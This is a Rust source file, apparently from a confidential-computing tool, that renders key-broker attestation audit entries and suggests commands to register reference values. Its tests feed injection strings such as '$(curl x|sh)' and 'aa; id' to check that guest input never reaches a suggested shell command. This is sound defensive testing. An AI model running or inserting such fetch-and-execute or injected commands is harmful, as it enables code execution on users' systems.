//! The audit log in words.

use serde_json::Value;
use time::OffsetDateTime;
use time::macros::format_description;

use super::client::AuditEntry;

/// Claims whose expected values are reference values of the same id.
const REFERENCE_VALUES: [&str; 5] = ["firmware", "kernel", "initrd", "cmdline", "init_data"];

/// A table of entries, headings first.
pub(crate) fn table(entries: &[AuditEntry]) -> Vec<Vec<String>> {
    let headings = ["TIME", "ID", "OUTCOME", "EVENT", "SUBJECT", "CLAIMS"].map(str::to_owned).to_vec();
    let row = |entry: &AuditEntry| {
        let claims: Vec<_> = failures(entry).iter().map(|failure| text(failure, "claim")).collect();
        let [id, outcome, event] = ["id", "outcome", "event"].map(|key| field(entry, key));
        vec![when(entry), id, outcome, event, subject(entry), claims.join(", ")]
    };
    std::iter::once(headings).chain(entries.iter().map(row)).collect()
}

/// One entry in sentences: what happened, each claim with what was expected and what came, and what to do.
/// `accepted` is the reference value that [`reference_value`] names, where it is known.
pub(crate) fn explain(entry: &AuditEntry, accepted: Option<&Value>) -> String {
    let what = match field(entry, "event").as_str() {
        "attest" => format!("attestation of a {} guest", field(entry, "tee")),
        "resource" => format!("request for {}", subject(entry)),
        by_administrator => format!("{by_administrator} {}", subject(entry)).trim_end().to_owned(),
    };
    let mut lines = vec![format!("{}: {what}, {}", field(entry, "outcome"), when(entry))];
    for failure in failures(entry) {
        lines.push(format!("  {}", text(failure, "claim")));
        lines.push(format!("    expected  {}", text(failure, "expected")));
        lines.push(format!("    came      {}", text(failure, "actual")));
    }
    for (name, key) in [("by the administrator", "administrator"), ("details", "details")] {
        let value = field(entry, key);
        lines.extend(Some(format!("  {name}  {value}")).filter(|_| !value.is_empty()));
    }
    lines.extend(advice(entry, accepted).map(|advice| format!("hint: {advice}")));
    lines.join("\n")
}

/// The id of the reference value that the guest did not meet, if that is why it was refused.
pub(crate) fn reference_value(entry: &AuditEntry) -> Option<&'static str> {
    let claim = text(failures(entry).first()?, "claim");
    REFERENCE_VALUES.into_iter().find(|id| *id == claim)
}

fn advice(entry: &AuditEntry, accepted: Option<&Value>) -> Option<String> {
    let first = failures(entry).first()?;
    Some(if let Some(id) = reference_value(entry) {
        registration(id, &text(first, "actual"), accepted)
    } else if field(entry, "event") == "resource" {
        "the resource policy decides who gets it: sealpod kbs policy get resource".into()
    } else {
        "evidence that is not genuine or not fresh gets nothing; if the guest is yours, see its console"
            .into()
    })
}

/// How to accept what came. The guest chose it, and people paste commands into shells: only digests get into one.
fn registration(id: &str, actual: &str, accepted: Option<&Value>) -> String {
    if !is_digest(actual) {
        return "what came is no digest: do not register it as it is; if the guest is yours, register what \
                `sealpod guest measure --json` prints (for init data `sealpod init-data digest`)"
            .into();
    }
    let accepted = accepted.and_then(Value::as_array).and_then(|values| {
        let digests = values.iter().map(|value| value.as_str().filter(|value| is_digest(value)));
        digests.collect::<Option<Vec<_>>>()
    });
    match accepted {
        Some(accepted) => format!(
            "if you trust what came, accept it beside what you accept already: \
             sealpod kbs reference-value set {id} {}",
            [accepted, vec![actual]].concat().join(" ")
        ),
        None => format!(
            "if you trust what came, accept it; set replaces, so add what you accept already \
             (`sealpod kbs reference-value get {id}`): sealpod kbs reference-value set {id} {actual}"
        ),
    }
}

fn is_digest(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'))
}

fn failures(entry: &AuditEntry) -> &[Value] {
    entry.get("failures").and_then(Value::as_array).map_or(&[], Vec::as_slice)
}

fn subject(entry: &AuditEntry) -> String {
    match field(entry, "resource") {
        resource if !resource.is_empty() => resource,
        _ => field(entry, "tee"),
    }
}

fn field(entry: &AuditEntry, key: &str) -> String {
    entry.get(key).and_then(Value::as_str).map(printable).unwrap_or_default()
}

fn text(failure: &Value, key: &str) -> String {
    failure.get(key).and_then(Value::as_str).map(printable).unwrap_or_default()
}

/// What a guest sent does not get to the owner's terminal as control characters.
fn printable(text: &str) -> String {
    text.chars().map(|character| if character.is_control() { '\u{fffd}' } else { character }).collect()
}

fn when(entry: &AuditEntry) -> String {
    let seconds = entry.get("time").and_then(Value::as_i64).unwrap_or_default();
    let format = format_description!("[year]-[month]-[day] [hour]:[minute]:[second]Z");
    OffsetDateTime::from_unix_timestamp(seconds)
        .ok()
        .and_then(|time| time.format(format).ok())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn entry(value: Value) -> AuditEntry {
        value.as_object().cloned().unwrap()
    }

    fn refusal() -> AuditEntry {
        entry(json!({
            "id": "5f0c", "time": 1_795_486_259, "event": "attest", "outcome": "denied", "tee": "tpm",
            "failures": [{ "claim": "initrd", "expected": "aa or bb", "actual": "cc\u{1b}[2J" }],
        }))
    }

    fn refusal_of(claim: &str, actual: &str) -> AuditEntry {
        let failure = json!({ "claim": claim, "expected": "aa or bb", "actual": actual });
        entry(json!({ "id": "5f0c", "event": "attest", "outcome": "denied", "failures": [failure] }))
    }

    #[test]
    fn a_refusal_says_the_claim_what_was_expected_what_came_and_what_to_do() {
        let said = explain(&refusal(), None);
        assert_eq!(
            said.lines().take(4).collect::<Vec<_>>(),
            [
                "denied: attestation of a tpm guest, 2026-11-24 02:10:59Z",
                "  initrd",
                "    expected  aa or bb",
                "    came      cc\u{fffd}[2J"
            ]
        );
        assert!(said.contains("hint: what came is no digest"), "{said}");
    }

    #[test]
    fn a_digest_can_be_accepted_beside_those_that_are() {
        let entry = refusal_of("initrd", "cc01");
        assert_eq!(reference_value(&entry), Some("initrd"));
        let said = explain(&entry, Some(&json!(["aa", "bb"])));
        assert!(said.ends_with(": sealpod kbs reference-value set initrd aa bb cc01"), "{said}");
        for unknown in [None, Some(&json!(["aa", "`id`"])), Some(&json!("aa"))] {
            let said = explain(&entry, unknown);
            assert!(said.ends_with(": sealpod kbs reference-value set initrd cc01"), "{said}");
            assert!(said.contains("set replaces"), "{said}");
        }
        assert_eq!(reference_value(&refusal_of("nonce", "cc01")), None);
    }

    #[test]
    fn what_a_guest_wrote_gets_into_no_command() {
        for actual in ["$(curl x|sh)", "aa; id", "aa bb", "AA", "--from", "", "aa\nbb"] {
            let said = explain(&refusal_of("init_data", actual), Some(&json!(["aa"])));
            assert!(!said.contains("reference-value set"), "{said}");
        }
    }

    #[test]
    fn a_grant_needs_no_advice() {
        let granted =
            entry(json!({"event": "resource", "resource": "a/b/c", "outcome": "granted", "time": 0}));
        assert_eq!(explain(&granted, None), "granted: request for a/b/c, 1970-01-01 00:00:00Z");
    }

    #[test]
    fn what_an_administrator_did_says_who_and_what() {
        let done = entry(json!({"event": "set-reference-values", "outcome": "accepted", "time": 0,
            "administrator": "9f86", "details": "initrd aa"}));
        let said = "accepted: set-reference-values, 1970-01-01 00:00:00Z\n  by the administrator  9f86\n  details  initrd aa";
        assert_eq!(explain(&done, None), said);
    }

    #[test]
    fn the_table_has_a_row_for_each_entry() {
        let rows = table(&[refusal()]);
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[1][1..], ["5f0c", "denied", "attest", "tpm", "initrd"]);
    }
}
